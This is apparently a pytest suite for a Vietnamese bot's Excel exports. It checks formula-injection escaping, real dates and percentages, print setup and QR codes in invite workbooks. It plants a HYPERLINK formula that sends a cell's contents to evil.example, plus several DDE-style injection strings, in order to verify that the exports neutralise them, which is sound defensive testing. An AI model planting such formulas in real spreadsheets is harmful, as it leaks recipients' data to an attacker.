"""Every workbook the bot writes: user text stays text, real dates and percentages, print setup."""

from __future__ import annotations

import asyncio
from datetime import date, datetime
from io import BytesIO
from pathlib import Path

import pytest
import segno
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select, update
from typer.testing import CliRunner

from bot.cli import app
from bot.db.models import Person
from bot.db.session import make_engine, make_sessionmaker
from bot.services import digest, digest_report
from bot.services.exports import Percent, Picture, Sheet, workbook_bytes
from tests.conftest import FakeClock
from tests.digest_org import build, local
from tests.harness import ROSTER, linked_chat, make_router, shipped_content

EVIL = '=HYPERLINK("http://evil.example/?"&E2,"Bấm vào")'
# Other starts a spreadsheet program treats as a formula or command (DDE: "@", "+", "-").
RISKY = {"A2": "+84 Bình Hai", "A3": "@SUM(1+1)", "B1": "-2+3 Dũng", "B2": "\t=1+1"}


def run(database_url: str, *args: str, **env: str):
    return CliRunner().invoke(app, list(args), env={"ATGT_DATABASE_URL": database_url, **env})


async def _prepare(database_url: str, tmp_path: Path) -> int:
    """The digest organisation with hostile names (A1 is the formula)."""
    engine = make_engine(database_url)
    sessionmaker = make_sessionmaker(engine)
    try:
        campaign_id = await build(sessionmaker, tmp_path)
        async with sessionmaker() as session, session.begin():
            for code, name in {"A1": EVIL, **RISKY}.items():
                await session.execute(
                    update(Person).where(Person.employee_code == code).values(full_name=name)
                )
        return campaign_id
    finally:
        await engine.dispose()


async def _chat_exports(database_url: str) -> dict[str, bytes]:
    """/baocao, /thongbao_ketqua xlsx and the weekly digest job's workbook."""
    engine = make_engine(database_url)
    sessionmaker = make_sessionmaker(engine)
    clock = FakeClock(local(2026, 11, 12, 20, 0))
    try:
        router = make_router(sessionmaker, clock)
        admin = await linked_chat(router, sessionmaker, clock, "AD1", channel="telegram")
        await admin.say("/baocao")
        found = {"/baocao": admin.last[2].document.data}
        await admin.say("/thongbao_ketqua 2 xlsx")
        found["/thongbao_ketqua"] = admin.last[1].document.data
        async with sessionmaker() as session:
            ((campaign, monday),) = await digest_report.candidates(
                session, now=clock(), last_week=False
            )
            viewer = (
                await session.execute(select(Person).where(Person.employee_code == "AD1"))
            ).scalar_one()
            pending = await digest_report.gather_many(
                session,
                campaign=campaign,
                monday=monday,
                topics=digest.topic_map(shipped_content()),
                viewers=[viewer],
            )
        ((_, rendered),) = await digest_report.render_many(pending, clock())
        found["digest"] = rendered.replies[2].document.data
        return found
    finally:
        await engine.dispose()


def all_exports(database_url: str, tmp_path: Path) -> dict[str, bytes]:
    campaign_id = asyncio.run(_prepare(database_url, tmp_path))
    files = {
        "invite": ["invite", "create", "--unit", "Sở X/Phòng 1"],
        "report": ["report", "--unit", "Sở X", "--from", "02/11/2026", "--to", "15/11/2026"],
        "review": ["report", "review", "--campaign", str(campaign_id)],
        "broadcast": ["broadcast", "report", "2"],
    }
    found = {}
    for name, args in files.items():
        path = tmp_path / f"{name}.xlsx"
        result = run(
            database_url, *args, "--xlsx", str(path), ATGT_TELEGRAM_BOT_USERNAME="atgt_bot"
        )
        assert result.exit_code == 0, result.output
        found[name] = path.read_bytes()
    return found | asyncio.run(_chat_exports(database_url))


def cells(data: bytes):
    book = load_workbook(BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_no_export_turns_a_name_into_a_formula(database_url, tmp_path):
    exports = all_exports(database_url, tmp_path)

    assert sorted(exports) == sorted(
        ["invite", "report", "review", "broadcast", "/baocao", "/thongbao_ketqua", "digest"]
    )
    for name, data in exports.items():
        found = list(cells(data))
        assert [c.coordinate for c in found if c.data_type == "f"] == [], name
        evil = [c for c in found if c.value == EVIL]
        assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil), name
        for risky in RISKY.values():
            marked = [c for c in found if c.value == risky]
            assert all(c.quotePrefix for c in marked), (name, risky)
        plain = [c for c in found if c.value == "Trưởng Một"]
        assert plain and not any(c.quotePrefix for c in plain), name


def test_every_export_has_a_filtered_frozen_header_and_a4_fit_to_width(database_url, tmp_path):
    exports = all_exports(database_url, tmp_path)

    for name, data in exports.items():
        for sheet in load_workbook(BytesIO(data)).worksheets:
            where = (name, sheet.title)
            assert sheet.freeze_panes == "A2", where
            assert sheet["A1"].font.bold, where
            assert int(sheet.page_setup.paperSize) == 9, where  # A4
            assert sheet.sheet_properties.pageSetUpPr.fitToPage, where
            assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0, where
            assert sheet.print_title_rows == "$1:$1", where
            widths = [d.width for d in sheet.column_dimensions.values()]
            assert widths and all(4 <= w <= 62 for w in widths), where
            if sheet.title not in ("Tổng hợp", "Ghi chú"):  # key/value and note sheets
                assert (
                    sheet.auto_filter.ref
                    == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
                ), where


def sheet_of(data: bytes, title: str | None = None):
    book = load_workbook(BytesIO(data))
    return book[title] if title else book.worksheets[0]


def column(sheet, name: str) -> list:
    """The cells under a header."""
    header = [c.value for c in sheet[1]]
    index = header.index(name) + 1
    return [sheet.cell(row, index) for row in range(2, sheet.max_row + 1)]


def test_dates_percentages_and_read_times_are_real_values(database_url, tmp_path):
    exports = all_exports(database_url, tmp_path)

    for name in ("report", "review", "/baocao", "digest"):
        people = sheet_of(exports[name], "Cá nhân")
        registered = [c for c in column(people, "Ngày đăng ký") if c.value is not None]
        assert registered and all(c.is_date for c in registered), name
        assert {c.number_format for c in registered} == {"DD/MM/YYYY"}, name
        shares = column(people, "Tỉ lệ báo cáo (%)")
        assert all(isinstance(c.value, int | float) and c.number_format == "0%" for c in shares), (
            name
        )
        units = sheet_of(exports[name], "Đơn vị")
        assert {c.number_format for c in column(units, "Tỉ lệ báo cáo (%)")} == {"0%"}, name
        summary = dict(sheet_of(exports[name], "Tổng hợp").iter_rows(min_row=2, values_only=True))
        assert isinstance(summary["Lập lúc"], datetime), name
    for name in ("broadcast", "/thongbao_ketqua"):
        sheet = sheet_of(exports[name])
        read = {
            row[2].value: row[-1] for row in sheet.iter_rows(min_row=2) if row[-1].value
        }  # by name
        assert [c.value for c in sheet[1]][-1] == "Đọc lúc", name
        assert read["Trưởng Một"].value == datetime(2026, 11, 10, 9, 0), name
        assert read["Trưởng Một"].number_format == "DD/MM/YYYY HH:MM", name
        assert len(read) == 3, name  # QL1, A1 and QL2 read the second announcement


def invite(database_url: str, tmp_path: Path, **env: str):
    roster = tmp_path / "r.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    assert run(database_url, "org", "import", str(roster)).exit_code == 0
    out = tmp_path / "moi.xlsx"
    result = run(database_url, "invite", "create", "--unit", "Sở A", "--xlsx", str(out), **env)
    assert result.exit_code == 0, result.output
    return result, load_workbook(out)


def test_invite_workbook_has_a_ready_message_with_code_and_link(database_url, tmp_path):
    result, book = invite(database_url, tmp_path, ATGT_TELEGRAM_BOT_USERNAME="atgt_bot")

    sheet = book.worksheets[0]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in sheet[1]]
    nv1 = dict(zip(header, rows["NV1"], strict=True))
    code = nv1["Mã mời"]
    assert nv1["Link Telegram"] == f"https://t.me/atgt_bot?start={code}"
    assert nv1["Tin nhắn mời"].startswith("Kính gửi anh/chị Nhân Viên Một")
    assert code in nv1["Tin nhắn mời"] and nv1["Link Telegram"] in nv1["Tin nhắn mời"]
    assert isinstance(nv1["Hết hạn"], datetime)
    assert column(sheet, "Hết hạn")[0].number_format == "DD/MM/YYYY HH:MM"
    assert "ATGT_TELEGRAM_BOT_USERNAME" not in result.output


def test_invite_workbook_says_when_links_are_missing(database_url, tmp_path):
    result, book = invite(database_url, tmp_path, ATGT_TELEGRAM_BOT_USERNAME="")

    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))
    assert first["Link Telegram"] in (None, "") and first["Link web"] in (None, "")
    assert f"/start {first['Mã mời']}" in first["Tin nhắn mời"]
    assert sheet._images == []  # no link, nothing to scan
    assert "ATGT_TELEGRAM_BOT_USERNAME" in result.output
    notes = [c.value for row in book["Ghi chú"].iter_rows() for c in row if c.value]
    assert any("ATGT_TELEGRAM_BOT_USERNAME" in note for note in notes)


def qr_modules(png: bytes) -> list[list[bool]]:
    """The dark/light modules of a QR code image, read from its pixels.

    The symbol spans the dark pixels' bounding box; its top-left finder pattern is 7 modules
    wide, which gives the module size. Each module is sampled at its centre.
    """
    image = Image.open(BytesIO(png)).convert("L")
    width, height = image.size
    dark = [[image.getpixel((x, y)) < 128 for x in range(width)] for y in range(height)]
    top = next(y for y in range(height) if any(dark[y]))
    left = min(x for y in range(height) for x in range(width) if dark[y][x])
    right = max(x for y in range(height) for x in range(width) if dark[y][x])
    finder = next(x for x in range(left, right + 2) if not dark[top][x]) - left
    module = finder / 7
    count = round((right - left + 1) / module)
    return [
        [dark[top + int((r + 0.5) * module)][left + int((c + 0.5) * module)] for c in range(count)]
        for r in range(count)
    ]


def symbol(text: str) -> list[list[bool]]:
    """The QR symbol a reader expects for `text`, computed by the library's encoder."""
    return [[bool(m) for m in row] for row in segno.make(text, error="m", micro=False).matrix]


def qr_codes_by_row(sheet) -> dict[int, bytes]:
    """Each image of the QR column by its (1-based) row."""
    column = [c.value for c in sheet[1]].index("Mã QR")
    found = {}
    for image in sheet._images:
        assert image.anchor._from.col == column
        found[image.anchor._from.row + 1] = image._data()
    return found


@pytest.mark.parametrize("web_url", ["", "https://atgt.example.gov.vn"])
def test_invite_workbook_has_a_qr_code_of_each_persons_link(database_url, tmp_path, web_url):
    _, book = invite(
        database_url, tmp_path, ATGT_TELEGRAM_BOT_USERNAME="atgt_bot", ATGT_WEB_URL=web_url
    )

    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    codes = qr_codes_by_row(sheet)
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows and sorted(codes) == list(range(2, len(rows) + 2))  # one image per person
    for number, values in enumerate(rows, start=2):
        row = dict(zip(header, values, strict=True))
        link = row["Link web"] or row["Link Telegram"]
        assert link.endswith(row["Mã mời"]) and link in row["Tin nhắn mời"]
        assert link.startswith(web_url or "https://t.me/atgt_bot")
        assert qr_modules(codes[number]) == symbol(link)
        assert row["Mã QR"] is None  # the cell under the image stays empty
        assert sheet.row_dimensions[number].height >= 90  # the row holds the image
    other = symbol(f"{link}X")
    assert qr_modules(codes[2]) != other  # the reading tells links apart


def test_the_writer_places_pictures_over_empty_cells():
    header = ["=Tên", "Mã QR"]
    rows = [["=1+1", Picture.qr("https://a.example/j/1")], ["+84", None], ["b", Picture.qr("2")]]
    sheet = load_workbook(BytesIO(workbook_bytes([Sheet("QR", header, rows)]))).worksheets[0]

    codes = qr_codes_by_row(sheet)  # reads each image once (openpyxl closes it)
    assert sorted(codes) == [2, 4]
    assert qr_modules(codes[2]) == symbol("https://a.example/j/1")
    assert qr_modules(codes[4]) == symbol("2")
    assert [sheet.cell(r, 1).value for r in (2, 3, 4)] == ["=1+1", "+84", "b"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert [sheet.cell(r, 2).value for r in (2, 3, 4)] == [None, None, None]
    assert sheet.row_dimensions[3].height is None  # rows without a picture keep their height


def test_the_writer_keeps_every_kind_of_value_as_what_it_is():
    texts = ["=1+1", "+84 912", "-5", "@SUM(A1)", "\tx", "\rx", "Bình thường", "a\x01b"]
    header = ["=tiêu đề", "Ngày", "Lúc", "Tỉ lệ", "Trống", "Số"]
    rows = [
        [text, date(2026, 11, 2), datetime(2026, 11, 2, 8, 30), Percent(1, 3), None, 7]
        for text in texts
    ] + [["", None, None, Percent(0, 0), None, 1.5]]
    data = workbook_bytes([Sheet("Bảng: thử/1", header, rows)])

    sheet = load_workbook(BytesIO(data)).worksheets[0]
    assert sheet.title == "Bảng  thử 1"  # characters Excel refuses in titles are replaced
    assert [c.value for c in sheet[1]] == header and sheet["A1"].data_type == "s"
    got = [sheet.cell(r, 1) for r in range(2, 2 + len(texts))]
    assert [c.value for c in got] == [*texts[:-1], "ab"]  # control characters dropped
    assert [c.quotePrefix for c in got] == [True] * 6 + [False, False]
    assert all(c.data_type == "s" for c in got)
    assert sheet["B2"].value == datetime(2026, 11, 2) and sheet["B2"].number_format == "DD/MM/YYYY"
    assert sheet["C2"].value == datetime(2026, 11, 2, 8, 30)
    assert sheet["C2"].number_format == "DD/MM/YYYY HH:MM"
    assert sheet["D2"].value == pytest.approx(1 / 3) and sheet["D2"].number_format == "0%"
    last = 2 + len(texts)
    assert sheet.cell(last, 4).value is None and sheet.cell(last, 6).value == 1.5
